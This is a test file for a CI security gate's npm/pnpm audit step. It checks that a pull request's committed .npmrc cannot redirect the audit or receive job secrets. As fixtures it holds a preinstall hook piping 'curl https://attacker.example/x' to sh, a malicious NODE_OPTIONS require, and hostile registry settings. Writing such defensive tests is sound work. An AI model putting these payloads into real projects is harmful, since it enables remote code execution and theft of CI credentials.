import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runAudit } from '../../src/checks/dependencies/run-audit.js';
import { makeRepo, scanDir, summarise } from '../helpers/repo.js';
import { startFakeRegistry, startRefusingProxy, qsRegistryAnswer, type FakeRegistry } from './fake-registry.js';
import { monorepo } from './monorepo.js';
import { JOB_SECRETS, RUN_POLICY, fakeBin, hostileNpmrc, leakedSecrets, npmHighWith, projectOf, withJobEnv } from './run-helpers.js';

// The attack of issue 16: a pull request commits an .npmrc that points the registry at its own server and
// expands the job's secrets into credentials. Every test runs the real npm unless it needs to see inside.

const servers: FakeRegistry[] = [];
async function registry(...args: Parameters<typeof startFakeRegistry>): Promise<FakeRegistry> {
  const r = await startFakeRegistry(...args);
  servers.push(r);
  return r;
}
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

describe('a committed .npmrc gets nothing from the job', () => {
  it("its registry is never asked: the audit goes to the public registry, here through the job's proxy", async () => {
    // The pull request's registry answers {} to everything: read as clean, the gate would pass.
    const pr = await registry();
    const proxy = await startRefusingProxy();
    try {
      const root = npmHighWith({ '.npmrc': hostileNpmrc(pr.url) });
      const report = await withJobEnv({ ...JOB_SECRETS, HTTPS_PROXY: proxy.url, NO_PROXY: '127.0.0.1,localhost' }, () => scanDir(root, { policy: RUN_POLICY }));
      expect(pr.requests).toEqual([]);
      expect(proxy.asked).toContain('registry.npmjs.org:443');
      expect(summarise(report)).toEqual(['dependencies/audit-unavailable security-policy.yml:5']);
      expect(report.verdict).toBe('fail');
      expect(report.findings[0]?.message).toContain('the audit failed: 403 Forbidden - POST https://registry.npmjs.org/-/npm/v1/security/advisories/bulk');
    } finally {
      await proxy.close();
    }
  }, 120_000);

  it('the registry the policy names receives no credential, even when the .npmrc names it too', async () => {
    const trusted = await registry(qsRegistryAnswer);
    const root = npmHighWith({ '.npmrc': hostileNpmrc(trusted.url) });
    const report = await withJobEnv(JOB_SECRETS, () => scanDir(root, { policy: `${RUN_POLICY}    registry: ${trusted.url}\n` }));
    expect(trusted.requests.map((r) => `${r.method} ${r.url}`)).toContain('POST /-/npm/v1/security/advisories/bulk');
    expect(leakedSecrets(trusted.requests)).toEqual([]);
    expect(trusted.requests.filter((r) => r.headers.authorization !== undefined)).toEqual([]);
    // The audit is real: the copy carries the lockfile, and the advisory comes back as a finding.
    expect(report.findings.map((f) => `${(f.properties?.advisory as { id?: string } | undefined)?.id}|${String(f.properties?.package)}`)).toContain('GHSA-hrpp-h998-j3pp|qs');
  }, 120_000);

  it('a policy registry that is not https, or carries credentials, is a policy error at its line', async () => {
    const root = makeRepo({ 'package.json': '{}' });
    await expect(scanDir(root, { policy: `${RUN_POLICY}    registry: http://registry.example.com/\n` })).rejects.toThrow(
      /checks\.dependencies\.registry "http:\/\/registry\.example\.com\/" is not an https URL/,
    );
    await expect(scanDir(root, { policy: `${RUN_POLICY}    registry: https://me:pw@registry.example.com/\n` })).rejects.toThrow(/carries credentials/);
  });

});

describe('what the package manager gets', () => {
  it('only allow-listed variables, a private HOME and empty npm config, in a copy without scripts or config', async () => {
    const dump = mkdtempSync(join(tmpdir(), 'security-gate-dump-'));
    const report = JSON.stringify({ auditReportVersion: 2, vulnerabilities: {}, metadata: { vulnerabilities: { info: 0, low: 0, moderate: 0, high: 0, critical: 0, total: 0 }, dependencies: { prod: 30, dev: 1, optional: 0, peer: 0, peerOptional: 0, total: 31 } } });
    const bin = fakeBin(
      'npm',
      [
        `env > ${dump}/env`,
        `pwd > ${dump}/cwd`,
        `find . -type f | sort > ${dump}/files`,
        `cp package.json ${dump}/package.json`,
        `ls -A "$HOME" > ${dump}/home`,
        `cat "$npm_config_userconfig" "$npm_config_globalconfig" > ${dump}/config`,
        `printf '%s\\n' "$@" > ${dump}/args`,
        `echo '${report}'`,
      ].join('\n'),
    );
    const files = monorepo('npm-v3');
    const manifest = JSON.parse(files['package.json'] as string) as Record<string, unknown>;
    files['package.json'] = JSON.stringify({ ...manifest, packageManager: 'npm@6.14.18', scripts: { preinstall: 'curl https://attacker.example/x | sh' }, publishConfig: { registry: 'http://127.0.0.1:9/' } });
    const root = makeRepo({ ...files, '.npmrc': hostileNpmrc('http://127.0.0.1:9/'), '.yarnrc': 'registry "http://127.0.0.1:9/"\n', '.pnpmfile.cjs': 'module.exports = {};\n' });
    const project = await projectOf(root, 'package-lock.json', ['package.json', 'packages/api/package.json', 'packages/web/package.json']);
    const jobEnv = { ...process.env, ...JOB_SECRETS, INPUT_POLICY: 'security-policy.yml', npm_config_registry: 'http://127.0.0.1:9/', NODE_OPTIONS: '--require /tmp/x.js', PATH: `${bin}:${process.env.PATH}` };
    const { outcome } = await runAudit({ root, project, manager: 'npm', timeoutSeconds: 30, env: jobEnv });
    expect(outcome.kind).toBe('report');

    const env = Object.fromEntries(readFileSync(join(dump, 'env'), 'utf8').trim().split('\n').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
    const names = Object.keys(env).filter((n) => !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(n));
    expect(names.filter((n) => /TOKEN|SECRET|PASSWORD|KEY|^INPUT_|^GITHUB_|NODE_OPTIONS/i.test(n))).toEqual([]);
    expect(Object.values(JOB_SECRETS).filter((v) => Object.values(env).some((value) => value.includes(v)))).toEqual([]);
    expect(env.npm_config_registry).toBe('https://registry.npmjs.org/');
    expect(env.npm_config_ignore_scripts).toBe('true');
    expect(env.COREPACK_ENABLE_STRICT).toBe('0');

    const cwd = readFileSync(join(dump, 'cwd'), 'utf8').trim();
    expect(cwd.startsWith(root)).toBe(false);
    expect(env.HOME?.startsWith(dirname(cwd))).toBe(true);
    expect(readFileSync(join(dump, 'home'), 'utf8')).toBe('');
    expect(readFileSync(join(dump, 'config'), 'utf8')).toBe('');
    expect(readFileSync(join(dump, 'files'), 'utf8').trim().split('\n')).toEqual(['./package-lock.json', './package.json', './packages/api/package.json', './packages/web/package.json']);
    const copied = JSON.parse(readFileSync(join(dump, 'package.json'), 'utf8')) as Record<string, unknown>;
    expect(copied).toEqual({ name: 'demo-monorepo', private: true, workspaces: ['packages/*'], dependencies: { qs: '6.10.2' }, devDependencies: { open: '0.0.5' } });
    expect(readFileSync(join(dump, 'args'), 'utf8').trim().split('\n')).toEqual([
      'audit',
      '--json',
      '--package-lock-only',
      '--ignore-scripts',
      '--registry=https://registry.npmjs.org/',
      `--prefix=${cwd}`,
      '--loglevel=http',
    ]);
    expect(existsSync(dirname(cwd))).toBe(false);
  });

  it("pnpm: the workspace list and catalogs are copied, pnpm's settings are not, and the workspace root is pinned", async () => {
    const dump = mkdtempSync(join(tmpdir(), 'security-gate-dump-'));
    const bin = fakeBin('pnpm', [`find . -type f | sort > ${dump}/files`, `cp pnpm-workspace.yaml ${dump}/workspace`, `echo "$NPM_CONFIG_WORKSPACE_DIR" > ${dump}/wsdir`, `pwd > ${dump}/cwd`, `printf '%s\\n' "$@" > ${dump}/args`, 'exit 1'].join('\n'));
    const files = monorepo('pnpm-v9');
    files['pnpm-workspace.yaml'] = 'packages:\n  - "packages/*"\ncatalog:\n  qs: 6.10.2\nregistry: http://127.0.0.1:9/\nconfigDependencies:\n  evil: 1.0.0+sha512-x\nmanagePackageManagerVersions: true\n';
    const root = makeRepo(files);
    const project = await projectOf(root, 'pnpm-lock.yaml', ['package.json', 'packages/api/package.json', 'packages/web/package.json']);
    await runAudit({ root, project, manager: 'pnpm', registry: 'https://npm.example.com/mirror', timeoutSeconds: 30, env: { ...process.env, PATH: `${bin}:${process.env.PATH}` } });
    expect(readFileSync(join(dump, 'files'), 'utf8').trim().split('\n')).toEqual(['./package.json', './packages/api/package.json', './packages/web/package.json', './pnpm-lock.yaml', './pnpm-workspace.yaml']);
    expect(readFileSync(join(dump, 'workspace'), 'utf8')).toBe('packages:\n  - packages/*\ncatalog:\n  qs: 6.10.2\n');
    expect(readFileSync(join(dump, 'wsdir'), 'utf8')).toBe(readFileSync(join(dump, 'cwd'), 'utf8'));
    expect(readFileSync(join(dump, 'args'), 'utf8').trim().split('\n')).toEqual(['audit', '--json', '--registry=https://npm.example.com/mirror/']);
  });
});
